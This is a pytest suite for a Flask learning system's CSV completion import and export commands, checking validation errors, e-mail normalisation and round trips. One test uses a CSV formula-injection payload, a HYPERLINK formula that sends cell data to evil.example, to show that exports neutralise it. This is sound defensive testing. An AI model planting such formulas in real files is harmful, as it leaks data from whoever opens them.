"""`flask lms completions import|export`: all-or-nothing imports and a lossless round trip."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from clock_support import programme_today
from sqlalchemy import func, select

from lms import dates
from lms.audit.models import AuditEvent
from lms.auth.models import Role
from lms.csv_reader import MAX_CELL_CHARS, MAX_LINE_CHARS
from lms.progress import services
from lms.progress.models import Completion, CompletionSource
from lms.signals import completions_imported


@pytest.fixture
def runner(app):
    """A CLI runner for the app (stdout and stderr kept apart)."""
    return app.test_cli_runner()


@pytest.fixture
def people(make_user):
    """Two clinicians and an instructor with known e-mails."""
    return {
        "ann": make_user(Role.CLINICIAN, email="ann@example.test", name="Ann Alder"),
        "bob": make_user(Role.CLINICIAN, email="bob@example.test", name="Bob Birch"),
        "ina": make_user(Role.INSTRUCTOR, email="ina@example.test", name="Ina Instructor"),
    }


@pytest.fixture
def imported():
    """Collects completions_imported signals."""
    seen: list[dict] = []

    def receiver(sender, **kwargs):
        seen.append(kwargs)

    completions_imported.connect(receiver)
    yield seen
    completions_imported.disconnect(receiver)


def write(tmp_path, text: str):
    """A CSV file with the given content."""
    path = tmp_path / "completions.csv"
    path.write_text(text, encoding="utf-8")
    return path


def count_completions(session) -> int:
    """All completion rows, live or revoked."""
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Completion))


def test_a_good_file_is_imported_with_its_real_dates_as_bulk_import(
    runner, session, catalog, people, tmp_path, imported
):
    path = write(
        tmp_path,
        "email,item,completed_on,note\n"
        "ann@example.test,M1,2023-04-01,Spring 2023 cohort\n"
        "ANN@example.test,M2,2023-05-06,\n"
        'bob@example.test,M1,2022-11-12,"moved from the old system, with a comma"\n'
        "bob@example.test,RETREAT-L1,2023-09-08,attended Portland\n",
    )

    result = runner.invoke(
        args=["lms", "completions", "import", str(path), "--actor", "ina@example.test"]
    )

    assert result.exit_code == 0, result.output + (result.stderr or "")
    assert "Imported 4 completions for 2 clinicians" in result.output
    rows = session.scalars(select(Completion).order_by(Completion.id)).all()
    assert [(r.user.email, r.item.code, r.completed_on) for r in rows] == [
        ("ann@example.test", "M1", date(2023, 4, 1)),
        ("ann@example.test", "M2", date(2023, 5, 6)),
        ("bob@example.test", "M1", date(2022, 11, 12)),
        ("bob@example.test", "RETREAT-L1", date(2023, 9, 8)),
    ]
    assert {r.source for r in rows} == {CompletionSource.IMPORT}
    assert {r.recorded_by_id for r in rows} == {people["ina"].id}
    assert rows[2].note == "moved from the old system, with a comma"
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "completion.recorded")
    ).all()
    assert len(events) == 4 and all(e.facts["bulk"] for e in events)
    assert imported == [{"completion_ids": [r.id for r in rows], "issue_certificates": True}]


def test_an_address_is_found_in_the_form_sign_in_finds_it(
    runner, session, catalog, people, tmp_path
):
    """A zero-width character or full-width letters in the e-mail cell name the same person,
    as they do on the sign-in form (lms.auth.services.normalise_email)."""
    full_width_ann = "".join(chr(ord(c) + 0xFEE0) for c in "ANN")
    path = write(
        tmp_path,
        f"email,item,completed_on,note\n\u200b{full_width_ann}@example.test,M1,2023-04-01,\n",
    )
    result = runner.invoke(args=["lms", "completions", "import", str(path), "--no-certificates"])
    assert result.exit_code == 0, result.output + (result.stderr or "")
    [row] = session.scalars(select(Completion)).all()
    assert row.user.email == "ann@example.test"


def test_no_certificates_flag_is_passed_to_the_receivers(
    runner, session, catalog, people, tmp_path, imported
):
    path = write(tmp_path, "email,item,completed_on\nann@example.test,M1,2023-04-01\n")

    result = runner.invoke(args=["lms", "completions", "import", str(path), "--no-certificates"])

    assert result.exit_code == 0
    assert imported[0]["issue_certificates"] is False


def test_every_bad_row_is_reported_by_line_and_nothing_is_imported(
    runner, session, catalog, people, tmp_path, imported
):
    services.record_completion(
        session,
        user_id=people["bob"].id,
        item_code="M2",
        completed_on=date(2023, 1, 1),
        source=CompletionSource.INSTRUCTOR,
        actor_id=None,
    )
    session.commit()
    future = (programme_today() + timedelta(days=10)).isoformat()
    path = write(
        tmp_path,
        "email,item,completed_on,note\n"
        "ann@example.test,M1,2023-04-01,fine on its own\n"  # line 2
        "nobody@example.test,M1,2023-04-01,\n"  # line 3: unknown e-mail
        "ann@example.test,M99,2023-04-01,\n"  # line 4: unknown item
        "ann@example.test,M3,01/04/2023,\n"  # line 5: bad date
        "ann@example.test,M4,2023-02-30,\n"  # line 6: impossible date
        f"ann@example.test,M5,{future},\n"  # line 7: future date
        "ann@example.test,M1,2023-05-01,\n"  # line 8: duplicate of line 2
        "bob@example.test,M2,2023-04-01,\n"  # line 9: already completed
        "ina@example.test,M1,2023-04-01,\n",  # line 10: not a clinician
    )

    result = runner.invoke(args=["lms", "completions", "import", str(path)])

    assert result.exit_code == 1
    errors = result.stderr
    assert "line 2:" not in errors
    assert "line 3: no account has the e-mail 'nobody@example.test'" in errors
    assert "line 4: unknown item 'M99'" in errors
    assert "line 5: completed_on '01/04/2023' is not a date in the form YYYY-MM-DD" in errors
    assert "line 6: completed_on '2023-02-30' is not a real date" in errors
    said = dates.day(date.fromisoformat(future))  # the one date style, in the CLI too
    assert f"line 7: The completion date {said} is in the future" in errors
    assert "line 8: duplicate of line 2 (same e-mail and item)" in errors
    assert "line 9: bob@example.test already has M2 recorded as completed on 2023-01-01" in errors
    assert "line 10: ina@example.test is not a clinician" in errors
    assert "nothing was imported" in errors
    assert count_completions(session) == 1
    assert imported == []


def test_a_wrong_header_is_refused(runner, session, catalog, people, tmp_path):
    path = write(tmp_path, "mail,item,date\nann@example.test,M1,2023-04-01\n")

    result = runner.invoke(args=["lms", "completions", "import", str(path)])

    assert result.exit_code == 1
    assert "line 1: unknown column 'mail'" in result.stderr
    assert "line 1: the column 'completed_on' is missing" in result.stderr
    assert count_completions(session) == 0


def test_export_writes_live_completions_that_import_again_unchanged(
    runner, session, catalog, people, tmp_path
):
    source = write(
        tmp_path,
        "email,item,completed_on,note\n"
        "ann@example.test,M1,2023-04-01,Spring cohort\n"
        'bob@example.test,M1,2022-11-12,"a note, with a comma"\n'
        "bob@example.test,HTH,2023-01-20,\n",
    )
    imported = runner.invoke(
        args=["lms", "completions", "import", str(source), "--no-certificates"]
    )
    assert imported.exit_code == 0
    revoked = session.scalar(select(Completion).where(Completion.item.has(code="HTH")))
    services.revoke_completion(session, revoked.id, actor_id=None, reason="wrong module")
    session.commit()

    exported = tmp_path / "export.csv"
    result = runner.invoke(args=["lms", "completions", "export", "--output", str(exported)])
    assert result.exit_code == 0
    text = exported.read_text(encoding="utf-8")
    assert text.splitlines() == [
        "email,item,completed_on,note",
        "ann@example.test,M1,2023-04-01,Spring cohort",
        'bob@example.test,M1,2022-11-12,"a note, with a comma"',
    ]
    assert runner.invoke(args=["lms", "completions", "export"]).output == text

    # Revoke everything, import the export: the same live completions come back.
    for completion in session.scalars(select(Completion).where(Completion.revoked_at.is_(None))):
        services.revoke_completion(session, completion.id, actor_id=None, reason="round trip")
    session.commit()
    reimported = runner.invoke(
        args=["lms", "completions", "import", str(exported), "--no-certificates"]
    )
    assert reimported.exit_code == 0, reimported.stderr
    again = runner.invoke(args=["lms", "completions", "export"]).output
    assert again == text


def test_export_neutralises_formulas_in_emails_and_notes_and_imports_them_back(
    runner, session, catalog, make_user, tmp_path
):
    evil = '=hyperlink("http://evil.example/"&a2,"x")@evil.example'
    make_user(Role.CLINICIAN, email=evil, name="Eve Evil")
    source = write(
        tmp_path,
        "email,item,completed_on,note\n"
        f'"{evil.replace(chr(34), chr(34) * 2)}",M1,2023-04-01,"@SUM(1+1)"\n'
        f'"{evil.replace(chr(34), chr(34) * 2)}",M2,2023-05-01,"-2+3"\n',
    )
    result = runner.invoke(args=["lms", "completions", "import", str(source), "--no-certificates"])
    assert result.exit_code == 0, result.stderr
    text = runner.invoke(args=["lms", "completions", "export"]).output
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + evil, "M1", "2023-04-01", "'@SUM(1+1)"]
    assert rows[2][3] == "'-2+3"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )

    # The neutralised file imports back to the very same values.
    for completion in session.scalars(select(Completion).where(Completion.revoked_at.is_(None))):
        services.revoke_completion(session, completion.id, actor_id=None, reason="round trip")
    session.commit()
    exported = write(tmp_path, text)
    again = runner.invoke(args=["lms", "completions", "import", str(exported), "--no-certificates"])
    assert again.exit_code == 0, again.stderr
    notes = set(session.scalars(select(Completion.note).where(Completion.revoked_at.is_(None))))
    assert notes == {"@SUM(1+1)", "-2+3"}


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "ann@example.test,M1,2023-04-01," + "x" * 131_073 + "\n",
            f"line 2: the line is longer than {MAX_LINE_CHARS:,} characters",
        ),
        (
            'ann@example.test,M1,2023-04-01,"' + "x\n" * 70_000 + '"\n',
            f"a cell is longer than {MAX_CELL_CHARS:,} characters",
        ),
        ("ann@example.test,M1,2023-04-01,bad\x00note\n", "the note: remove the control characters"),
        ("ann\x00@example.test,M1,2023-04-01,\n", "the e-mail: use one line of text"),
        (
            "ann@example.test,M1,2023-04-01," + "n" * 2001 + "\n",
            "the note: at most 2000 characters",
        ),
    ],
    ids=["line-too-long", "cell-over-csv-limit", "nul-in-note", "nul-in-email", "note-too-long"],
)
def test_unreadable_or_unsafe_cells_give_one_line_errors_and_import_nothing(
    runner, session, catalog, people, tmp_path, body, expected
):
    source = write(tmp_path, "email,item,completed_on,note\n" + body)
    result = runner.invoke(args=["lms", "completions", "import", str(source)])
    assert result.exit_code == 1
    assert "Traceback" not in result.output + result.stderr
    assert expected in result.stderr
    assert all(line.startswith(("Error: ", str(source))) for line in result.stderr.splitlines())
    assert count_completions(session) == 0
